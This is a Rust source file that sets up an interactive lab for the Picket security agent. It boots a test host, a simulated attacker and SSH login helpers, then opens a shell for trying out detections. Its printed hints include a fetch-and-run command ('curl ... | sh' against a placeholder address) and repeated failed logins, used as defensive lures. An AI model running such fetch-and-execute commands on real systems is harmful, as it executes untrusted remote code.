//! `make lab`: a booted host with an agent on it, its collector, and an attacker, to play with.

use picket_tests::booted::Booted;
use picket_tests::line::Line;
use picket_tests::network::{ACCOUNT, ATTACKER, HOST};
use std::fs;
use std::process::{Command, ExitCode};

/// In a command: where the words of whoever plays come.
const WORDS: &str = "<words>";

fn main() -> ExitCode {
    if let Some(reason) = Booted::missing() {
        println!("the laboratory cannot run here: {reason}");
        return ExitCode::FAILURE;
    }
    let mode = std::env::args().nth(1).unwrap_or_else(|| "monitor".to_owned());
    if !["monitor", "enforce"].contains(&mode.as_str()) {
        println!("the mode is monitor or enforce, not {mode}");
        return ExitCode::FAILURE;
    }
    let host = Booted::start();
    let mut line = Line::inside(
        &host,
        "journal = \"yes\"\n",
        &format!("[process]\n[respond]\nmode = \"{mode}\"\n"),
    );
    line.start_agent();
    let (user, password) = ACCOUNT;
    let ssh = |password: &str| host.network().ssh(ATTACKER[0], HOST[0], user, password);
    let functions = [
        (
            "host",
            "any program on the host",
            host.command("env"),
            vec![WORDS],
        ),
        (
            "attacker",
            "any program at the attacker's",
            host.network().attacker("env"),
            vec![WORDS],
        ),
        (
            "login",
            "a shell on the host over SSH, from the attacker's address",
            ssh(password),
            vec![WORDS],
        ),
        (
            "fail",
            "a login with a wrong password",
            ssh("wrong"),
            vec!["true"],
        ),
        ("picket", "the agent's commands", line.agent(&[WORDS]), vec![]),
        (
            "picket-collector",
            "the collector's commands",
            line.collector(&[WORDS]),
            vec![],
        ),
    ];
    let mut script = "PS1='lab> '\n".to_owned();
    println!(
        "A booted host at {}, an attacker at {}, Picket in {mode} mode:\n",
        HOST[0], ATTACKER[0]
    );
    for (name, what, mut command, more) in functions {
        command.args(more);
        script += &format!("{name}() {{ {}; }}\n", words(&command));
        println!("  {name:<17} {what}");
    }
    println!(
        "\nTo begin with: `for n in 1 2 3 4 5 6; do fail; done`, then `picket findings`, `picket explain ID`,\n\
         `picket blocks list`, `picket-collector findings`, `host curl -s http://198.51.100.9/ | sh`. `exit` ends all of it.\n"
    );
    let file = line.path("functions.sh");
    if let Err(error) = fs::write(&file, script) {
        println!("{}: {error}", file.display());
        return ExitCode::FAILURE;
    }
    let shell = Command::new("bash").arg("--rcfile").arg(&file).arg("-i").status();
    match shell {
        Ok(_) => ExitCode::SUCCESS,
        Err(error) => {
            println!("bash: {error}");
            ExitCode::FAILURE
        }
    }
}

/// A command as a shell reads it.
fn words(command: &Command) -> String {
    let all = std::iter::once(command.get_program()).chain(command.get_args());
    let word = |word: &std::ffi::OsStr| match word.to_string_lossy() {
        given if given == WORDS => "\"$@\"".to_owned(),
        word => format!("'{}'", word.replace('\'', "'\\''")),
    };
    all.map(word).collect::<Vec<_>>().join(" ")
}
